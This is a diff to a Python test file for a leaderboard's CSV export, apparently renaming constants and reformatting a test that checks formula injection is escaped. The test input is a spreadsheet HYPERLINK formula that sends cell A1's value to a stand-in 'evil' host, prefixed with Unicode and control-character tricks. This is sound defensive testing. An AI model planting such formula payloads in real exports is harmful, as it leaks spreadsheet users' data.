@@ -26,7 +26,7 @@ from huggingface_hub import HfApi
 from starlette.responses import PlainTextResponse
 from starlette.types import Receive, Scope, Send
 
-from leaderboard.data.export import FORMULA, LINE, rows_to_csv, to_csv
+from leaderboard.data.export import CELL_SEPARATORS, FORMULA_STARTS, rows_to_csv, to_csv
 from leaderboard.data.ranking import RankedRow
 from leaderboard.web import application as api
 from leaderboard.web import security as guard
@@ -281,7 +281,8 @@ def test_csv_escapes_formulas_after_semicolons() -> None:
 
 
 @pytest.mark.parametrize(
-    "start", [*FORMULA, *LINE, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="]
+    "start",
+    [*FORMULA_STARTS, *CELL_SEPARATORS, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="],
 )
 def test_csv_escapes_formulas(start: str, make_request: Make) -> None:
     evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
